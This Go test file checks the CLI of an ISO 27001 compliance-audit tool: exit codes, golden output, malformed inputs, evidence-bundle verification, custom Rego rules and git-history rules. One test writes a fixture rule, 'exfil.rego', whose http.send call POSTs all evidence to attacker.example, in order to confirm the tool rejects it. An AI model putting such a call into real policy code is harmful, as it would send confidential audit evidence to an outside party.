package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ismscheck/ismscheck/internal/results"
)

var update = flag.Bool("update", false, "rewrite golden files")

const example = "../../examples/acme"

func run(t *testing.T, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	var out, errb bytes.Buffer
	code = Main(context.Background(), args, &out, &errb)
	return out.String(), errb.String(), code
}

// copyExample copies the example ISMS into a temp dir so a test can break or mend it.
func copyExample(t *testing.T) string {
	t.Helper()
	dst := t.TempDir()
	require.NoError(t, os.CopyFS(dst, os.DirFS(example)))
	return dst
}

func write(t *testing.T, path, content string) {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
}

// mend fixes the example's one major (no management review in 12 months), so the
// remaining findings are minors and below.
func mend(t *testing.T, dir string) {
	t.Helper()
	old, err := os.ReadFile(filepath.Join(dir, "reviews/2025-09-management-review.md"))
	require.NoError(t, err)
	fresh := strings.Replace(string(old), "date: 2025-09-18", "date: 2026-09-17", 1)
	fresh = strings.Replace(fresh, "id: MR-2025", "id: MR-2026", 1)
	write(t, filepath.Join(dir, "reviews/2026-09-management-review.md"), fresh)
}

func TestAuditExampleJSON(t *testing.T) {
	out, stderr, code := run(t, "audit", example, "--as-of", "2026-11-21", "--format", "json")
	assert.Equal(t, exitGate, code, stderr)
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(out), &r))
	assert.Equal(t, results.SchemaVersion, r.SchemaVersion)
	assert.Equal(t, "2026-11-21", r.Run.AsOf)
	assert.Len(t, r.Controls, 123, "30 clause requirements and 93 controls")
	ids := map[string]bool{}
	for _, c := range r.Controls {
		ids[c.ID] = true
		assert.NotEmpty(t, c.Status, c.ID)
	}
	for _, id := range []string{"4.1", "6.1.3", "9.2.2", "9.3.3", "10.2", "A.5.1", "A.8.34"} {
		assert.True(t, ids[id], id)
	}
	grades := map[string]int{}
	for _, f := range r.Findings {
		assert.NotEmpty(t, f.RuleID)
		assert.NotEmpty(t, f.Controls, f.RuleID)
		assert.NotEmpty(t, f.Resource.Kind, f.RuleID)
		if f.Status == results.StatusFail {
			grades[f.Grade]++
			assert.NotEmpty(t, f.Evidence, "%s on %s points at its evidence", f.RuleID, f.Resource.ID)
		}
	}
	for _, g := range results.Grades {
		assert.Positive(t, grades[g], "the example shows a %s", g)
	}
	assert.Equal(t, results.VerdictNotReady, r.Readiness.Verdict)
}

func TestAuditExampleText(t *testing.T) {
	out, _, code := run(t, "audit", example, "--as-of", "2026-11-21")
	assert.Equal(t, exitGate, code)
	// The run id hashes the rule pack; mask it so editing a rule does not churn the golden file.
	out = regexp.MustCompile(`run [0-9a-f]{16}`).ReplaceAllString(out, "run <id>")
	golden := filepath.Join("testdata", "audit-acme.txt")
	if *update {
		require.NoError(t, os.WriteFile(golden, []byte(out), 0o644))
	}
	want, err := os.ReadFile(golden)
	require.NoError(t, err)
	assert.Equal(t, string(want), out, "run `go test ./internal/cli -update` after an intended change")
}

func TestFailOnExitCodes(t *testing.T) {
	dir := copyExample(t)
	mend(t, dir)
	for failOn, want := range map[string]int{"major": exitOK, "minor": exitGate, "observation": exitGate, "ofi": exitGate, "none": exitOK} {
		_, stderr, code := run(t, "audit", dir, "--as-of", "2026-11-21", "--fail-on", failOn, "--format", "json")
		assert.Equal(t, want, code, "--fail-on %s: %s", failOn, stderr)
	}
	for failOn, want := range map[string]int{"major": exitGate, "none": exitOK} {
		_, _, code := run(t, "audit", example, "--as-of", "2026-11-21", "--fail-on", failOn, "--format", "json")
		assert.Equal(t, want, code, "example, --fail-on %s", failOn)
	}
	_, stderr, code := run(t, "audit", example, "--fail-on", "critical")
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, `--fail-on "critical"`)
	out, stderr, code := run(t, "audit", example, "--format", "yaml")
	assert.Equal(t, exitUsage, code)
	assert.Empty(t, out, "nothing is evaluated or printed for an unknown format")
	assert.Contains(t, stderr, `unknown format "yaml"`)
}

func TestMalformedRegisterIsNamedAndIncomplete(t *testing.T) {
	dir := copyExample(t)
	mend(t, dir)
	ctx := filepath.Join(dir, "registers/context.yaml")
	raw, err := os.ReadFile(ctx)
	require.NoError(t, err)
	lines := strings.Split(string(raw), "\n")
	lines[3] = "  broken: [unclosed" // line 4 of the file
	write(t, ctx, strings.Join(lines, "\n"))

	out, stderr, code := run(t, "audit", dir, "--as-of", "2026-11-21", "--format", "json")
	assert.Equal(t, exitIncomplete, code, "no major failed, but evidence for major rules is incomplete: %s", stderr)
	assert.Contains(t, stderr, "registers/context.yaml:")
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(out), &r))
	assert.Equal(t, 1, r.Coverage.Incomplete)
	var sawError bool
	for _, f := range r.Findings {
		if f.Status == results.StatusError && strings.Contains(f.Message, "registers/context.yaml:") {
			sawError = true
		}
		if f.Resource.ID == "registers/context.yaml" {
			assert.NotEqual(t, results.StatusPass, f.Status, "%s passed on unreadable evidence", f.RuleID)
		}
	}
	assert.True(t, sawError, "the parse error reaches the findings with file and line")
	assert.NotEqual(t, results.VerdictReady, r.Readiness.Verdict)

	_, _, code = run(t, "audit", dir, "--as-of", "2026-11-21", "--format", "json", "--allow-incomplete")
	assert.Equal(t, exitOK, code)
}

func TestBrokenConfigAndRules(t *testing.T) {
	dir := copyExample(t)
	write(t, filepath.Join(dir, "ismscheck.yaml"), "version: 1\nsources:\n  isms:\n    root: .\n   exclude: [x]\n")
	_, stderr, code := run(t, "audit", dir)
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, "ismscheck.yaml:5")

	write(t, filepath.Join(dir, "ismscheck.yaml"), "version: 1\nrules:\n  disable: [DOC-99]\n")
	_, stderr, code = run(t, "audit", dir)
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, "ismscheck.yaml:3: rule DOC-99 is not in the rule pack")

	rulesDir := t.TempDir()
	write(t, filepath.Join(rulesDir, "exfil.rego"), `# METADATA
# title: Sends the evidence away
# scope: package
# custom:
#   id: USR-01
#   severity: minor
#   controls: ["A.5.1"]
#   kinds: [isms.document]
#   remediation: none
package user.exfil

deny contains "sent" if {
	http.send({"method": "POST", "url": "https://attacker.example", "body": input})
}
`)
	_, stderr, code = run(t, "audit", example, "--rules", rulesDir)
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, filepath.Join(rulesDir, "exfil.rego")+":13: rego_type_error: undefined function http.send")

	write(t, filepath.Join(rulesDir, "exfil.rego"), "package user.broken\n\ndeny contains x if {\n")
	_, stderr, code = run(t, "rules", "--rules", rulesDir)
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, filepath.Join(rulesDir, "exfil.rego")+":4: rego_parse_error")
}

func TestUserRuleRuns(t *testing.T) {
	rulesDir := t.TempDir()
	write(t, filepath.Join(rulesDir, "owner.rego"), `# METADATA
# title: Documents are owned by a named person, not a team alias
# scope: package
# custom:
#   id: ACME-01
#   severity: ofi
#   controls: ["7.5.2"]
#   kinds: [isms.document]
#   remediation: Name a person as owner.
package acme.owner

applies if input.document.data.controlled

deny contains sprintf("%s is owned by a team alias", [input.document.id]) if {
	contains(lower(input.document.data.meta.owner), "team")
}
`)
	out, stderr, code := run(t, "audit", example, "--rules", rulesDir, "--as-of", "2026-11-21", "--format", "json", "--fail-on", "none")
	require.Equal(t, exitOK, code, stderr)
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(out), &r))
	n := 0
	for _, f := range r.Findings {
		if f.RuleID == "ACME-01" {
			n++
			assert.Contains(t, []string{results.StatusPass, results.StatusFail}, f.Status)
		}
	}
	assert.Greater(t, n, 10, "the user rule evaluated every controlled document")
}

func TestCollectEvaluateReportVerify(t *testing.T) {
	bundle := filepath.Join(t.TempDir(), "bundle")
	out, stderr, code := run(t, "collect", example, "--out", bundle)
	require.Equal(t, exitOK, code, stderr)
	assert.Contains(t, out, "manifest digest sha256:")

	out, _, code = run(t, "verify", bundle)
	assert.Equal(t, exitOK, code, out)

	resultsFile := filepath.Join(t.TempDir(), "results.json")
	_, stderr, code = run(t, "evaluate", "--evidence", bundle, "--as-of", "2026-11-21", "--out", resultsFile)
	require.Equal(t, exitOK, code, stderr)
	offline, err := results.Read(resultsFile)
	require.NoError(t, err)

	live, _, _ := run(t, "audit", example, "--as-of", "2026-11-21", "--format", "json")
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(live), &r))
	assert.Equal(t, r.Run.ID, offline.Run.ID, "offline re-evaluation of the bundle reproduces the run")
	assert.Equal(t, r.Summary, offline.Summary)

	text, _, code := run(t, "report", "--results", resultsFile)
	assert.Equal(t, exitOK, code)
	assert.Contains(t, text, "VERDICT  NOT READY")
	_, _, code = run(t, "report", "--results", resultsFile, "--fail-on", "major")
	assert.Equal(t, exitGate, code)

	// One byte changed in one document: verify names it, evaluate refuses the bundle.
	var doc string
	require.NoError(t, filepath.WalkDir(filepath.Join(bundle, "documents"), func(p string, d os.DirEntry, err error) error {
		if doc == "" && !d.IsDir() && strings.HasSuffix(p, ".json") {
			doc = p
		}
		return err
	}))
	raw, err := os.ReadFile(doc)
	require.NoError(t, err)
	i := bytes.Index(raw, []byte(`"complete": true`))
	require.Positive(t, i)
	raw[i+len(`"complete": `)] = 'T' // "True" is not JSON
	require.NoError(t, os.WriteFile(doc, raw, 0o644))
	out, _, code = run(t, "verify", bundle)
	assert.Equal(t, exitGate, code)
	rel, _ := filepath.Rel(bundle, doc)
	assert.Contains(t, out, "altered: ")
	assert.Contains(t, out, filepath.ToSlash(rel))
	_, stderr, code = run(t, "evaluate", "--evidence", bundle)
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, "does not verify")
}

func TestRulesAndControlsJSON(t *testing.T) {
	out, _, code := run(t, "rules", "--format", "json")
	require.Equal(t, exitOK, code)
	var rules []map[string]any
	require.NoError(t, json.Unmarshal([]byte(out), &rules))
	require.NotEmpty(t, rules)
	for _, r := range rules {
		for _, k := range []string{"id", "title", "severity", "controls", "kinds", "permissions"} {
			assert.Contains(t, r, k)
		}
	}
	out, _, code = run(t, "controls", "--format", "json")
	require.Equal(t, exitOK, code)
	var controls []map[string]any
	require.NoError(t, json.Unmarshal([]byte(out), &controls))
	covered := 0
	annex := 0
	for _, c := range controls {
		if c["kind"] == "annex_a" {
			annex++
		}
		if rs, _ := c["rules"].([]any); len(rs) > 0 {
			covered++
		}
	}
	assert.Equal(t, 93, annex)
	assert.Positive(t, covered)
	text, _, _ := run(t, "controls")
	assert.Regexp(t, `A\.5\.1\s+Policies for information security\s+Organizational\s+DOC-`, text)
}

func TestUnreadableISMSRootIsNeverAPass(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "ismscheck.yaml"), "version: 1\nsources:\n  isms:\n    root: does-not-exist\n")
	out, stderr, code := run(t, "audit", dir, "--format", "json")
	assert.Equal(t, exitIncomplete, code, stderr)
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(out), &r))
	for _, f := range r.Findings {
		assert.Equal(t, results.StatusError, f.Status, f.RuleID)
		assert.Contains(t, f.Message, "the isms collector failed")
	}
	assert.Equal(t, results.VerdictIncomplete, r.Readiness.Verdict)
}

func TestOrganisationParametersReachRules(t *testing.T) {
	dir := copyExample(t)
	// The organisation's policy, not the tool, sets the warning window: 5 days instead of 30.
	write(t, filepath.Join(dir, "ismscheck.yaml"), "version: 1\norganization: Acme\nsources:\n  isms:\n    exclude: [README.md, EXPECTED.md]\n")
	isp := filepath.Join(dir, "policies/information-security-policy.md")
	raw, err := os.ReadFile(isp)
	require.NoError(t, err)
	write(t, isp, strings.Replace(string(raw), "\nversion:", "\nparameters:\n  review_warning_days: 5\nversion:", 1))

	out, stderr, _ := run(t, "audit", dir, "--as-of", "2026-11-21", "--format", "json")
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(out), &r), stderr)
	seen := 0
	for _, f := range r.Findings {
		if f.Resource.ID == "policies/access-control-policy.md" && f.RuleID == "DOC-05" {
			seen++
			assert.Equal(t, results.StatusPass, f.Status, "due in 19 days is outside the organisation's 5-day window: %s", f.Message)
		}
	}
	assert.Equal(t, 1, seen)
}

// TestSecondLayout audits an ISMS written without front matter, with its own register
// columns, vocabularies, DD/MM/YYYY dates and template placeholders, read through
// examples/globex/ismscheck.yaml alone. The findings are the gaps EXPECTED.md lists.
func TestSecondLayout(t *testing.T) {
	out, stderr, code := run(t, "audit", "../../examples/globex", "--as-of", "2026-11-21", "--format", "json")
	require.Equal(t, exitGate, code, stderr)
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(out), &r))
	type got struct {
		rule, grade, resource string
		line                  int
	}
	var fails []got
	for _, f := range r.Findings {
		assert.NotEqual(t, results.StatusError, f.Status, "%s: %s", f.RuleID, f.Message)
		if f.Status == results.StatusFail {
			g := got{f.RuleID, f.Grade, f.Resource.ID, 0}
			if f.Location != nil {
				g.line = f.Location.Line
			}
			fails = append(fails, g)
		}
	}
	assert.ElementsMatch(t, []got{
		{"DOC-22", "major", "globex", 0},
		{"DOC-05", "minor", "Policies/Access Control Policy.md", 6},
		{"DOC-09", "minor", "Registers/Risk Register.csv", 14},
		{"DOC-11", "minor", "Registers/Statement of Applicability.csv", 83},
		{"DOC-05", "observation", "Policies/Cryptography Policy.md", 9},
		{"DOC-25", "ofi", "globex", 0},
	}, fails)
	assert.Equal(t, 93, r.Readiness.Stage2.Requirements)
}

// gitRun runs git in dir with fixed identities and dates, isolated from the user's config.
func gitRun(t *testing.T, dir, date string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=Bob", "GIT_AUTHOR_EMAIL=bob@example.com", "GIT_COMMITTER_NAME=Bob", "GIT_COMMITTER_EMAIL=bob@example.com",
		"GIT_AUTHOR_DATE="+date+"T10:00:00Z", "GIT_COMMITTER_DATE="+date+"T10:00:00Z")
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "git %v: %s", args, out)
}

func TestGitHistoryRules(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	repo := t.TempDir()
	policy := "---\nid: POL-01\ntitle: Access control\ntype: policy\nowner: Tom\napprover: Dana\napproved_on: 2026-03-01\nversion: \"1.0\"\nnext_review: 2027-03-01\n---\n# Access control\n"
	write(t, filepath.Join(repo, "ismscheck.yaml"), "version: 1\n")
	write(t, filepath.Join(repo, "policies/access-control.md"), policy)
	gitRun(t, repo, "2026-03-01", "init", "-q", "-b", "main")
	gitRun(t, repo, "2026-03-01", "add", ".")
	gitRun(t, repo, "2026-03-01", "commit", "-q", "-m", "Approve access control policy")
	write(t, filepath.Join(repo, "policies/access-control.md"), policy+"\nAdmins may share accounts.\n")
	gitRun(t, repo, "2026-05-02", "commit", "-q", "-am", "Quick fix")

	out, stderr, _ := run(t, "audit", repo, "--as-of", "2026-11-21", "--format", "json")
	var r results.Results
	require.NoError(t, json.Unmarshal([]byte(out), &r), stderr)
	got := map[string]string{}
	for _, f := range r.Findings {
		if strings.HasPrefix(f.RuleID, "GIT-") {
			got[f.RuleID] = f.Status + " " + f.Grade
			if f.RuleID == "GIT-01" {
				assert.Contains(t, f.Message, "1 change since its approval on 2026-03-01, the latest on 2026-05-02 by Bob")
			}
		}
	}
	assert.Equal(t, map[string]string{"GIT-01": "fail minor", "GIT-02": "pass ", "GIT-03": "fail observation"}, got)

	// A shallow clone (actions/checkout's default) has no history: skipped, with the fix.
	shallow := filepath.Join(t.TempDir(), "shallow")
	gitRun(t, t.TempDir(), "2026-11-21", "clone", "-q", "--depth", "1", "file://"+repo, shallow)
	out, stderr, _ = run(t, "audit", shallow, "--as-of", "2026-11-21", "--format", "json")
	require.NoError(t, json.Unmarshal([]byte(out), &r), stderr)
	n := 0
	for _, f := range r.Findings {
		if strings.HasPrefix(f.RuleID, "GIT-") {
			n++
			assert.Equal(t, results.StatusSkipped, f.Status)
			assert.Contains(t, f.Message, "fetch-depth: 0")
		}
	}
	assert.Equal(t, 3, n)
}

// TestReadmeSampleIsCurrent keeps the README's sample output honest.
func TestReadmeSampleIsCurrent(t *testing.T) {
	readme, err := os.ReadFile("../../README.md")
	require.NoError(t, err)
	block := func(s string) string {
		start := strings.Index(s, "VERDICT")
		end := strings.Index(s[start:], "\nFINDINGS")
		require.True(t, start >= 0 && end > 0, "VERDICT ... FINDINGS block")
		line := strings.SplitN(s[start+end+1:], "\n", 2)[0]
		return s[start:start+end+1] + line
	}
	out, _, _ := run(t, "audit", example, "--as-of", "2026-11-21")
	assert.Equal(t, block(out), block(string(readme)), "update the sample in README.md")
}

func TestMalformedResultsFileNamesTheLine(t *testing.T) {
	path := filepath.Join(t.TempDir(), "results.json")
	write(t, path, "{\n  \"schema_version\": \"1\",\n  \"findings\": [,]\n}\n")
	_, stderr, code := run(t, "report", "--results", path)
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, path+": line 3: invalid character ','")
}
